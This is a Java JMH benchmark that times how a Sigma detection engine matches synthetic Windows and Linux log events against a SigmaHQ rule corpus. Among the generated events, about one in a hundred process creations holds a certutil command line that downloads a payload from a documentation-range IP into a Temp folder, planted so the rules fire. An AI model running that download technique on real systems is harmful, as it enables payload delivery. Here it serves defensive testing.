package dev.keel.bench.detect;

import dev.keel.detect.engine.ActiveDetection;
import dev.keel.detect.engine.ActiveRules;
import dev.keel.detect.engine.MatchEngine;
import dev.keel.detect.metrics.DetectMetrics;
import dev.keel.detect.rule.EventView;
import dev.keel.detect.rule.RuleLoad;
import dev.keel.detect.rule.RuleRepository;
import dev.keel.storage.Event;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;
import org.openjdk.jmh.infra.Blackhole;

/**
 * One thread matching events against a real SigmaHQ checkout ({@code KEEL_SIGMA_CORPUS}, as for
 * {@code SigmaCorpusTest}), on the event mix: 50 % Sysmon (half of it process creation),
 * 25 % Windows Security, 15 % auditd, 10 % syslog, each with its log source. {@code routed} is
 * the engine as it runs (each event against the rules of its log source that its fields' literals
 * leave in); {@code everyRule}
 * evaluates every detection rule on every event, as Keel did before rules were scoped, so the
 * two give the ratio in one run. One operation = one event. The event's {@code source} names its
 * kind, so that each log source can be measured alone.
 */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Warmup(iterations = 3, time = 3)
@Measurement(iterations = 5, time = 3)
@Fork(value = 1, jvmArgsAppend = {"-Xmx2g"})
public class SigmaCorpusBenchmark {

    private static final int EVENTS = 2000;

    /** The whole mix, or only the events of one of its log sources (the slowest one bounds the service). */
    @Param({"mix", "sysmon_process_creation", "sysmon_other", "windows_security", "auditd", "syslog"})
    public String events;

    private ActiveRules active;
    private MatchEngine engine;
    private List<Event> measured;

    @Setup(Level.Trial)
    public void setUp() throws IOException {
        String corpus = System.getenv("KEEL_SIGMA_CORPUS");
        if (corpus == null) {
            throw new IllegalStateException("set KEEL_SIGMA_CORPUS to a SigmaHQ checkout's rule directories");
        }
        long compiling = System.nanoTime();
        RuleLoad load = new RuleRepository(Path.of(corpus), Duration.ofMillis(100)).load();
        System.out.printf("%n%d files, %d detection and %d correlation rules, %d rejected, loaded in %d ms%n",
                load.files(), load.rules().detectionRules().size(), load.rules().correlationRules().size(),
                load.errors().size(), (System.nanoTime() - compiling) / 1_000_000);
        DetectMetrics metrics = new DetectMetrics(new SimpleMeterRegistry(), "detect");
        active = ActiveRules.of(load.rules(), ActiveRules.empty(),
                new ActiveRules.WindowLimits(10_000, 100_000, metrics::eviction), 10, Duration.ofMinutes(1));
        engine = new MatchEngine("detect", metrics, System::currentTimeMillis);
        List<Event> mix = mix(EVENTS * 12, new Random(42));
        measured = mix.stream().filter(event -> events.equals("mix") || events.equals(event.source())).limit(EVENTS)
                .toList();
        int[] raised = {0};
        measured.forEach(event -> engine.evaluate(event, active, alert -> raised[0]++));
        long candidates = measured.stream().mapToLong(event -> active.candidatesFor(active.rules().view(event),
                dev.keel.detect.rule.LogSource.of(event)).size()).sum();
        System.out.printf("%s: %d of %d events raised alerts (%d alerts); %.1f candidate rules an event%n", events,
                countMatching(), measured.size(), raised[0], candidates / (double) measured.size());
    }

    private long countMatching() {
        return measured.stream().filter(event -> {
            int[] hit = {0};
            engine.evaluate(event, active, alert -> hit[0]++);
            return hit[0] > 0;
        }).count();
    }

    @Benchmark
    @OperationsPerInvocation(EVENTS)
    public void routed(Blackhole sink) {
        for (Event event : measured) {
            engine.evaluate(event, active, sink::consume);
        }
    }

    @Benchmark
    @OperationsPerInvocation(EVENTS)
    public void everyRule(Blackhole sink) {
        for (Event event : measured) {
            EventView view = active.rules().view(event);
            for (ActiveDetection detection : active.detections()) {
                try {
                    sink.consume(detection.rule().matches(view));
                } catch (RuntimeException ruleFailure) {
                    sink.consume(ruleFailure);
                }
            }
        }
    }

    /** The event mix, with realistic but benign values. */
    static List<Event> mix(int count, Random random) {
        List<Event> events = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            int roll = random.nextInt(100);
            Map<String, Object> attributes = new LinkedHashMap<>();
            String message;
            String kind;
            if (roll < 25) {
                sysmonProcess(attributes, random);
                message = "Process Create";
                kind = "sysmon_process_creation";
            } else if (roll < 50) {
                sysmonOther(attributes, random);
                message = "Sysmon event";
                kind = "sysmon_other";
            } else if (roll < 75) {
                security(attributes, random);
                message = "An account was successfully logged on.";
                kind = "windows_security";
            } else if (roll < 90) {
                kind = "auditd";
                attributes.put("logsource", Map.of("product", "linux", "service", "auditd"));
                attributes.put("type", pick(random, "SYSCALL", "EXECVE", "PATH", "USER_LOGIN", "CWD"));
                attributes.put("exe", pick(random, "/usr/bin/ls", "/usr/bin/cat", "/usr/sbin/cron", "/usr/bin/python3"));
                attributes.put("a0", pick(random, "ls", "cat", "python3", "grep"));
                attributes.put("a1", pick(random, "-la", "/var/log/syslog", "script.py", "error"));
                attributes.put("key", pick(random, "exec", "audit", "logins"));
                message = "audit(" + (1700000000 + i) + ".000:" + i + "): syscall=59 success=yes";
            } else {
                kind = "syslog";
                attributes.put("logsource", Map.of("product", "linux", "service", "syslog"));
                attributes.put("app_name", pick(random, "sshd", "cron", "systemd", "kernel", "sudo"));
                message = pick(random, "Accepted publickey for deploy from 10.0.0.5 port 50022 ssh2",
                        "pam_unix(cron:session): session opened for user root", "Started Daily apt upgrade",
                        "eth0: link up", "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/apt update");
            }
            long now = 1_700_000_000_000L + i;
            events.add(new Event("e-" + i, now, now, kind, "host-" + random.nextInt(50),
                    "user" + random.nextInt(200), null, "10.0." + random.nextInt(256) + "." + random.nextInt(256),
                    "info", message, attributes));
        }
        return events;
    }

    /** Image, command line, parent image: what a workstation runs all day. */
    private static final String[][] PROCESSES = {
        {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "C:\\Windows\\System32\\services.exe"},
        {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"},
        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Documents\\report.docx\"",
            "C:\\Windows\\explorer.exe"},
        {"C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            "C:\\Windows\\System32\\cmd.exe"},
        {"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
            "\"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\"",
            "C:\\Windows\\explorer.exe"},
        {"C:\\Windows\\System32\\backgroundTaskHost.exe",
            "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider",
            "C:\\Windows\\System32\\svchost.exe"},
    };

    /** About 1 % of process creations are an attack the corpus knows: a download with certutil. */
    private static void sysmonProcess(Map<String, Object> attributes, Random random) {
        attributes.put("logsource", Map.of("product", "windows", "category", "process_creation", "service", "sysmon"));
        String[] process = random.nextInt(100) == 0 ? new String[] {"C:\\Windows\\System32\\certutil.exe",
            "certutil.exe -urlcache -split -f http://203.0.113.7/p.bin C:\\Users\\alice\\AppData\\Local\\Temp\\p.bin",
            "C:\\Windows\\System32\\cmd.exe"} : PROCESSES[random.nextInt(PROCESSES.length)];
        String image = process[0];
        attributes.put("EventID", 1);
        attributes.put("Image", image);
        attributes.put("OriginalFileName", image.substring(image.lastIndexOf('\\') + 1));
        attributes.put("CommandLine", process[1]);
        attributes.put("ParentImage", process[2]);
        attributes.put("ParentCommandLine", process[2]);
        attributes.put("CurrentDirectory", "C:\\Users\\alice\\");
        attributes.put("IntegrityLevel", "Medium");
        attributes.put("User", "CORP\\alice");
        attributes.put("Hashes", "SHA256=" + Long.toHexString(random.nextLong()) + Long.toHexString(random.nextLong()));
    }

    private static void sysmonOther(Map<String, Object> attributes, Random random) {
        String category = pick(random, "registry_set", "file_event", "image_load", "network_connection");
        attributes.put("logsource", Map.of("product", "windows", "category", category, "service", "sysmon"));
        attributes.put("Image", pick(random, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe",
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"));
        switch (category) {
            case "registry_set" -> {
                attributes.put("EventID", 13);
                attributes.put("TargetObject", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\"
                        + random.nextInt(100));
                attributes.put("Details", "Binary Data");
            }
            case "file_event" -> {
                attributes.put("EventID", 11);
                attributes.put("TargetFilename", "C:\\Users\\alice\\AppData\\Local\\Temp\\tmp" + random.nextInt(10000) + ".tmp");
            }
            case "image_load" -> {
                attributes.put("EventID", 7);
                attributes.put("ImageLoaded", pick(random, "C:\\Windows\\System32\\kernel32.dll",
                        "C:\\Windows\\System32\\ntdll.dll", "C:\\Windows\\System32\\user32.dll"));
                attributes.put("Signed", "true");
            }
            default -> {
                attributes.put("EventID", 3);
                attributes.put("DestinationIp", "142.250." + random.nextInt(256) + "." + random.nextInt(256));
                attributes.put("DestinationPort", 443);
                attributes.put("Initiated", "true");
            }
        }
    }

    private static void security(Map<String, Object> attributes, Random random) {
        attributes.put("logsource", Map.of("product", "windows", "service", "security"));
        attributes.put("EventID", pick(random, 4624, 4672, 4688, 4625, 4648));
        attributes.put("TargetUserName", "alice");
        attributes.put("SubjectUserName", "SYSTEM");
        attributes.put("LogonType", pick(random, 2, 3, 10));
        attributes.put("IpAddress", "10.0.0." + random.nextInt(256));
        attributes.put("WorkstationName", "WS-" + random.nextInt(100));
    }

    @SafeVarargs
    private static <T> T pick(Random random, T... choices) {
        return choices[random.nextInt(choices.length)];
    }
}
